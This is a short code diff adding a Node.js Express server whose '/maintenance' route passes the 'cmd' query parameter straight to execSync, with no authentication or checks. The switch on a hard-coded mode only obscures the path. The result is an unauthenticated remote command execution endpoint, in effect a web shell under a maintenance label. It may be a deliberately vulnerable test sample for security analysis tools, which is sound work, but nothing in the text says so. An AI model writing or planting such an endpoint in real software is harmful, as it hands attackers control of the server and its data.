@@ -1,0 +1,23 @@
+const express = require('express');
+const { execSync } = require('child_process');
+
+const app = express();
+
+app.get('/maintenance', (req, res) => {
+  const mode = 'report';
+  let command;
+  switch (mode) {
+    case 'custom':
+      command = 'uptime';
+      break;
+    case 'report':
+      command = req.query.cmd;
+      break;
+    default:
+      command = 'true';
+  }
+  execSync(command);
+  res.sendStatus(204);
+});
+
+app.listen(3000);
